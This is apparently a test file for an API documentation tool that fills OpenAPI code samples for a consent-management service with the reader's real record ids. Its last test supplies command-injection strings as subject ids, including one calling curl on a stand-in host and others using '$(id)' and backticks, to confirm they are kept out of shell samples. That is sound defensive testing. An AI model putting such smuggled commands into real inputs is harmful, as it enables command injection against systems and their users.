import { fillIn } from '../browser/src/fill-in';
import { bodyOf, createIsForPeople, fieldsOf, type OpenApi, type Operation, requestOf } from '../browser/src/operations';
import { findIds } from '../browser/src/reader';
import { buildOpenApi } from '../src/openapi/build-openapi';
import { exampleIds } from '../src/pipeline/0-common/example-values';
import { routes } from '../src/routes';

const document = buildOpenApi(routes, 'http://127.0.0.1:8080') as unknown as OpenApi;
const ids = Object.fromEntries(Object.keys(exampleIds).map((name) => [name, `real-${name}`]));
const filled = fillIn(document, exampleIds, ids);
const operations = (of: OpenApi) =>
  Object.entries(of.paths).flatMap(([path, item]) => Object.entries(item).map(([method, operation]) => ({ path, method, operation })));
const examples = Object.values(exampleIds);
const hasExampleId = (operation: Operation) => examples.some((id) => JSON.stringify(operation).includes(id));

test('[decision 27.3] reads and their samples show the records of the reader', () => {
  const reads = operations(filled).filter(({ method }) => method === 'get');
  expect(reads.length).toBeGreaterThan(20);
  expect(reads.filter(({ operation }) => hasExampleId(operation))).toEqual([]);
  expect(JSON.stringify(filled.paths['/consents/{id}']?.['get'])).toContain('$BASE_URL/consents/real-consent');
});

test('[decision 27.3] no change or deletion names a record of the reader', () => {
  const additions = ['createConsent', 'createConsentBatch', 'createExport'];
  const writes = operations(filled).filter(
    ({ method, operation }) => method !== 'get' && !additions.includes(operation.operationId as string),
  );
  expect(writes.length).toBeGreaterThan(20);
  expect(writes.filter(({ operation }) => JSON.stringify(operation).includes('real-'))).toEqual([]);
});

test('a consent is recorded for the site of the reader', () => {
  expect(JSON.stringify(filled.paths['/consents']?.['post']?.['x-codeSamples'])).toContain('real-site');
  const body = bodyOf(filled.paths['/consents']?.['post'] as Operation, filled) ?? '';
  expect(JSON.parse(body)).toMatchObject({ site_id: 'real-site' });
});

test('only required parameters are filled in; the others show their example', () => {
  const fields = operations(filled).flatMap(({ operation }) => fieldsOf(operation));
  expect(fields.filter(({ isRequired, value }) => isRequired !== (value !== ''))).toEqual([]);
  const optional = fields.filter(({ isRequired }) => !isRequired);
  expect(optional.length).toBeGreaterThan(20);
  expect(optional.filter(({ example }) => example === '')).toEqual([]);
});

test('a parameter with few values is a choice', () => {
  const fields = operations(filled).flatMap(({ operation }) => fieldsOf(operation));
  expect(fields.find(({ name }) => name === 'accepted')?.choices).toEqual(['true', 'false']);
  expect(fields.filter(({ name }) => name === 'format').map(({ choices }) => choices)).toContainEqual(['csv', 'json']);
});

test('the fields of a form are sent where the document says', async () => {
  const request = requestOf({
    ...{ method: 'PUT', url: 'http://127.0.0.1:8080/api/v1/consents/{id}', key: 'sk-typed', siteToken: 'st_typed', body: '{"a":1}' },
    fields: [
      { name: 'id', place: 'path', value: 'a/b' },
      { name: 'limit', place: 'query', value: 'x y' },
      { name: 'Idempotency-Key', place: 'header', value: 'once' },
    ],
  });
  expect(request.url).toBe('http://127.0.0.1:8080/api/v1/consents/a%2Fb?limit=x+y');
  expect(Object.fromEntries(request.headers)).toEqual({
    ...{ authorization: 'Bearer sk-typed', 'x-site-token': 'st_typed', 'idempotency-key': 'once', 'content-type': 'application/json' },
  });
  expect(await request.text()).toBe('{"a":1}');
});

test('an empty field is not sent, so an empty key does not hide the session', () => {
  const fields = [
    { name: 'limit', place: 'query', value: '' },
    { name: 'Idempotency-Key', place: 'header', value: '' },
  ];
  const request = requestOf({ method: 'GET', url: 'http://127.0.0.1:8080/api/v1/consents', fields, key: '', siteToken: '', body: '' });
  expect([request.url, Object.fromEntries(request.headers)]).toEqual(['http://127.0.0.1:8080/api/v1/consents', {}]);
});

test('the original document is unchanged', () => {
  expect(document).toEqual(buildOpenApi(routes, 'http://127.0.0.1:8080'));
});

test('an id without a record of the reader keeps its example', () => {
  const some = fillIn(document, exampleIds, { site: 'real-site' });
  expect(JSON.stringify(some.paths['/consents/{id}'])).toContain(exampleIds.consent);
});

test('an operation is for people if it accepts a session and no key', () => {
  const isForPeople = createIsForPeople(document, '/api/v1');
  for (const { path, method, operation } of operations(document)) {
    const url = `http://127.0.0.1:8080/api/v1${path.replaceAll(/\{\w+\}/g, 'x')}?limit=1`;
    const schemes = (operation.security ?? []).flatMap(Object.keys);
    const expected = schemes.includes('session') && !schemes.includes('apiKey');
    expect([method, path, isForPeople({ method: method.toUpperCase(), url })]).toEqual([method, path, expected]);
  }
  expect(isForPeople({ method: 'GET', url: 'http://127.0.0.1:8080/api/v1/nothing' })).toBe(false);
});

test('ids come from the newest records: a consent with a policy, a ready export', async () => {
  const answers: Record<string, unknown> = {
    '/consents': {
      data: [
        { id: 'c2', subject_id: 's2', site_id: 'site2', policy_version: null },
        { id: 'c1', subject_id: 's1', site_id: 'site1', policy_version: 3 },
      ],
    },
    '/policies': [{ id: 'p1' }],
    '/exports': {
      data: [
        { id: 'e2', status: 'failed' },
        { id: 'e1', status: 'ready', download_url: 'https://a/exports/download/token1' },
      ],
    },
    '/sites': { data: [{ id: 'site9' }] },
    '/keys': { data: [] },
    '/webhooks/endpoints': undefined,
    '/webhooks/deliveries': { data: [{ id: 'd1' }] },
  };
  const found = await findIds((path) => Promise.resolve(answers[path.split('?')[0] as string]));
  expect(found).toEqual({
    ...{ consent: 'c1', subject: 's1', policy: 'p1', export: 'e1', download: 'token1', site: 'site1', delivery: 'd1' },
  });
});

test.each(['"; curl evil.example; "', "it's", '$(id)', 'a b', '`id`', ''])(
  'a subject with shell syntax is not in a sample: %s',
  async (subject) => {
    const consents = { data: [{ id: 'c1', subject_id: subject, site_id: 'site1', policy_version: 3 }] };
    const found = await findIds((path) => Promise.resolve(path.startsWith('/consents') ? consents : undefined));
    expect(found).toEqual({ consent: 'c1', site: 'site1' });
  },
);
